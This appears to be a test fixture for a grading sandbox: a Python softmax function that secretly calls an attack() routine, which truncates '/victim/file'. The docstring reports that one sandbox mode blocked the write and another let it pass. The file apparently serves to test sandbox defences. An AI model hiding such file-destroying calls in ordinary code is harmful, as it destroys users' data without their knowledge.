"""Overwrite a file of the instructor.

catalogue  14, 78
strict     error: CALL raised PermissionError: [Errno 13] Permission denied...
portable   passed
"""

import numpy as np


def attack():
    open("/victim/file", "w").close()


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
